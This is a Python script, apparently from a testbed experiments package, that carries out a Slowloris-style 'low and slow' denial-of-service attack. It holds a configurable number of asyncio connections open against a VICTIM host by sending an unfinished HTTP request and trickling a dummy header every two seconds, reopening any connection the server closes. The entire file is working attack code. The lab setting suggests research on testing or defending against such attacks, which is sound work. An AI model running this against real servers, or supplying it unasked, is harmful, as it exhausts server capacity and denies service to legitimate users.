"""Low and slow: connections that are held open with a few bytes now and then, so that nobody else gets a place."""

from __future__ import annotations

import asyncio
import json
import sys
from contextlib import suppress

from skerry.testbed.experiments.ddos_loop.saying import say
from skerry.testbed.experiments.ddos_loop.star import PORT, VICTIM

PAUSE_S = 2.0


async def hold() -> None:
    """Open a connection, send a header that does not end, and open it again when it is closed."""
    while True:
        writer = None
        with suppress(OSError):
            _, writer = await asyncio.open_connection(VICTIM, PORT)
            writer.write(b"GET / HTTP/1.0\r\n")
            while not writer.is_closing():
                await asyncio.sleep(PAUSE_S)
                writer.write(b"X-a: b\r\n")
                await writer.drain()
        if writer is not None:
            writer.close()
        await asyncio.sleep(0.1)


async def hold_all(count: int) -> None:
    """Hold so many connections until interrupted, opened within the first second."""
    async with asyncio.TaskGroup() as tasks:
        for _ in range(count):
            tasks.create_task(hold())
            await asyncio.sleep(1 / count)


def main() -> None:
    """Hold connections until interrupted."""
    say(ready=True)
    try:
        asyncio.run(hold_all(json.loads(sys.argv[1])["connections"]))
    except KeyboardInterrupt:
        sys.exit(0)


if __name__ == "__main__":
    main()
